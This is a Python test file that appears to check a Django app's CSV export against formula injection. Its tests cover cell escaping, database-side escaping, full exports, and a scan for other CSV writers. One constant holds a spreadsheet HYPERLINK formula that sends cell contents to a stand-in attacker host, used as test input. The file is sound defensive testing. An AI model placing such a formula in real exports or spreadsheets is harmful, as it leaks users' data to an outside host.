"""No cell that leaves the house in a CSV file is read as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.db import connection
from hypothesis import given
from hypothesis import strategies as st

from tenants.behaviour.models import Item
from tenants.csv_cells import COLUMN, STARTS, csv_line, original, plain_cell
from tenants.subjects.directory import resolve
from tests.tenants.departure.leaving import content_of, make_export, manifest, table

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'


@given(st.text())
def test_s39_no_cell_begins_like_a_formula_and_each_can_be_read_back(text):
    """ASVS 5.0, 1.2.10; OWASP CSV Injection."""
    cell = plain_cell(text)
    assert not cell.startswith(tuple("=+-@\t\r\n\0"))
    assert (original(cell) if cell != text else cell) == text


def test_s39_a_line_escapes_texts_and_leaves_numbers():
    """ASVS 5.0, 1.2.10: `=+-@`, TAB, NUL, CR and LF."""
    texts = [f"{start}1" for start in STARTS]
    line = csv_line([*texts, -5, 1.5, None, 'a "b", c'])
    assert next(csv.reader(io.StringIO(line.decode(), newline=""))) == [
        *(f"'{text}" for text in texts), "-5", "1.5", "", 'a "b", c',
    ]  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("start", STARTS.replace("\0", "") + "a")
def test_s39_the_database_escapes_as_we_do(start):
    """ASVS 5.0, 1.2.10; PostgreSQL's texts hold no NUL."""
    with connection.cursor() as cursor:
        cursor.execute(f"select {COLUMN.format('t')} from (select %s::text as t) as one", [start])
        assert cursor.fetchone() == (plain_cell(start),)


def test_s39_an_export_of_everything_holds_no_formula(alice):
    """ASVS 5.0, 1.2.10: an item's title and a person's id come from whoever sent them."""
    with alice.scope:
        resolve([FORMULA, "+44 1", "plain"])
        Item.objects.create(external_id="@item", title=FORMULA, category="'tis", price=-1)
    content = content_of(make_export(alice))
    people = {row["user_id"] for row in table(content, "people.csv")}
    assert people == {f"'{FORMULA}", "'+44 1", "plain"}
    (item,) = table(content, "tables/behaviour_item.csv")
    assert item["external_id"] == "'@item" and item["title"] == f"'{FORMULA}"
    assert item["category"] == "''tis" and float(item["price"]) == -1
    assert "apostrophe" in manifest(content)["note"]


def test_s39_nothing_else_writes_csv_for_people():
    """ASVS 5.0, 1.2.10: one place escapes; what writes CSV by itself is known."""
    own = re.compile(r"csv\.(?:Dict)?[Ww]riter\(|write_csv\(|format csv")
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("tenants", "training", "platform")
        for path in (ROOT / folder).rglob("*.py")
        if own.search(path.read_text())
    }
    assert found == {
        "tenants/csv_cells.py",
        "tenants/departure/contents.py",  # by COLUMN
        # Read by the engine alone.
        "training/jobs/freezing.py",
    }
